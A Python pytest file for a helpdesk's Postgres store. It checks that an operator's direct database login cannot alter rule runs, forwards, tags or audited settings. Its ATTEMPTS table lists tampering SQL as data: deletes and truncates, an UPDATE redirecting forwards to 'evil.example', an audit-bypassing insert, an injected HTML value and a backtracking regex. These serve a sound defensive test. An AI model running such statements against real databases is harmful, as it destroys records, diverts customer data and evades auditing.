"""Keyword rules' record on a team's server, as the server keeps it: tried with a plain
psycopg connection logged in as an operator's own login (no gwdesk code in between),
then through gwdesk by a desk and the receiver, each their own login."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import psycopg
import pytest

from gwdesk.store.conversations import ConversationStore
from gwdesk.store.postgres import PostgresDatabase
from gwdesk.store.rule_runs import RuleRuns
from tests.postgres_server import PostgresServer
from tests.team.logins import OfficeLogins, office_logins

CUSTOMER = "61412345678"
RULE = {"name": "hours", "match": "whole", "value": "HOURS",
        "actions": [{"do": "reply", "value": "Open 9 to 5", "per_day": 1}]}  # fmt: skip


@pytest.fixture
def logins(postgres: PostgresServer, pg_url: str) -> OfficeLogins:
    return office_logins(postgres, pg_url)


@pytest.fixture
def runs(logins: OfficeLogins) -> Iterator[dict[str, RuleRuns]]:
    opened = {name: PostgresDatabase(logins.login(name)) for name in ("Alex", "Receiver")}
    yield {name: RuleRuns(db, runner=name) for name, db in opened.items()}
    for database in opened.values():
        database.close()


def superuser(logins: OfficeLogins) -> psycopg.Connection[Any]:
    return psycopg.connect(logins.url, autocommit=True)


def kept(logins: OfficeLogins) -> tuple[list[Any], list[Any], list[Any]]:
    with superuser(logins) as conn:
        return (
            conn.execute("SELECT * FROM rule_runs ORDER BY 1").fetchall(),
            conn.execute("SELECT * FROM rule_forwards ORDER BY 1").fetchall(),
            conn.execute("SELECT * FROM conversation_tags ORDER BY 1, 2").fetchall(),
        )


ATTEMPTS: dict[str, str] = {
    "forget a customer's automatic replies": "DELETE FROM rule_runs",
    "empty the runs": "TRUNCATE rule_runs",
    "send a queued forward elsewhere": "UPDATE rule_forwards SET url = 'https://evil.example/x'",
    "revive a delivered forward": "UPDATE rule_forwards SET state = 'waiting' WHERE state = 'delivered'",
    "forget the forwards": "DELETE FROM rule_forwards",
    "tag a conversation without the audit": (
        f"INSERT INTO conversation_tags VALUES ('{CUSTOMER}', 'vip', 'Sam', '2026-03-04T00:00:00+00:00')"
    ),
    "untag a conversation": "DELETE FROM conversation_tags",
    "tag a conversation that is no number": "SELECT gwdesk_conversation_tag('<b>x</b>', 'vip')",
    "keep rules that are not rules": "SELECT gwdesk_set('replies.rules', '{\"name\": \"x\"}')",
    "keep a rule that does nothing": (
        "SELECT gwdesk_set('replies.rules', "
        "'[{\"name\": \"x\", \"match\": \"whole\", \"value\": \"a\", \"actions\": []}]')"
    ),
    "keep a rule matched by a regex": (
        "SELECT gwdesk_set('replies.rules', "
        "'[{\"name\": \"x\", \"match\": \"regex\", \"value\": \"(a+)+$\", "
        "\"actions\": [{\"do\": \"tag\", \"value\": \"t\"}]}]')"
    ),
    "write the rules without the audit": (
        "INSERT INTO settings(name, value) VALUES ('replies.rules', '[]')"
    ),
}  # fmt: skip


@pytest.mark.parametrize("attempt", sorted(ATTEMPTS))
def test_an_operators_plain_sql_client_cannot_change_what_the_rules_did_behind_the_server(
    logins: OfficeLogins, runs: dict[str, RuleRuns], attempt: str
) -> None:
    runs["Receiver"].claim(1, CUSTOMER, "hours", reply_per_day=1)
    runs["Receiver"].finish(1, "no automatic reply", replied=False)
    runs["Receiver"].claim(2, CUSTOMER, "crm", forward=("https://crm.example.org/in", "{}"))
    taken = runs["Receiver"].take_forward(60_000_000)
    assert taken is not None
    runs["Receiver"].forward_done(taken.id)
    ConversationStore(runs["Receiver"].database, operator="rx").tag(CUSTOMER, "info")
    before = kept(logins)
    alex = psycopg.connect(logins.login("Alex"), autocommit=True)
    with alex as conn, pytest.raises(psycopg.Error) as refused:
        conn.execute(ATTEMPTS[attempt])
    assert isinstance(
        refused.value, psycopg.errors.InsufficientPrivilege | psycopg.errors.CheckViolation
    ), refused.value
    assert kept(logins) == before


def test_a_run_is_stamped_with_the_servers_login_and_clock_not_the_claim(
    logins: OfficeLogins,
) -> None:
    with psycopg.connect(logins.login("Alex"), autocommit=True) as conn:
        conn.execute(
            "INSERT INTO rule_runs(reply_id, number, rule, runner, role, at_us) "
            f"VALUES (5, '{CUSTOMER}', 'hours', 'Sam', 'somebody', 0)"
        )
    with superuser(logins) as conn:
        row = conn.execute("SELECT runner, role, at_us > 0 FROM rule_runs").fetchone()
    assert row == ("Alex", logins.roles["Alex"], True)


def test_an_operator_cannot_rewrite_the_receivers_run(
    logins: OfficeLogins, runs: dict[str, RuleRuns]
) -> None:
    runs["Receiver"].claim(1, CUSTOMER, "hours", reply_per_day=1)
    with psycopg.connect(logins.login("Alex"), autocommit=True) as conn:
        assert conn.execute("UPDATE rule_runs SET outcome = 'nothing'").rowcount == 0


def test_an_operator_cannot_count_an_automatic_reply_after_the_claim_even_on_its_own_run(
    logins: OfficeLogins, runs: dict[str, RuleRuns]
) -> None:
    runs["Alex"].claim(1, CUSTOMER, "hours")
    with (
        psycopg.connect(logins.login("Alex"), autocommit=True) as conn,
        pytest.raises(psycopg.errors.CheckViolation),
    ):
        conn.execute("UPDATE rule_runs SET replied = 1")


def test_the_receiver_may_assign_a_conversation_for_its_rules_audited_as_itself(
    logins: OfficeLogins, runs: dict[str, RuleRuns]
) -> None:
    ConversationStore(runs["Receiver"].database, operator="rx").assign(CUSTOMER, "Alex")
    with superuser(logins) as conn:
        audit = conn.execute(
            "SELECT action, subject, role FROM audit ORDER BY id DESC LIMIT 1"
        ).fetchone()
    assert audit == ("conversation assigned", CUSTOMER, logins.roles["Receiver"])


def test_a_change_of_the_rules_through_the_server_is_audited_under_the_login(
    logins: OfficeLogins,
) -> None:
    with psycopg.connect(logins.login("Alex"), autocommit=True) as conn:
        conn.execute("SELECT gwdesk_set('replies.rules', %s)", (json.dumps([RULE]),))
    with superuser(logins) as conn:
        audit = conn.execute(
            "SELECT action, subject, role FROM audit ORDER BY id DESC LIMIT 1"
        ).fetchone()
    assert audit[1:] == ("replies.rules", logins.roles["Alex"])
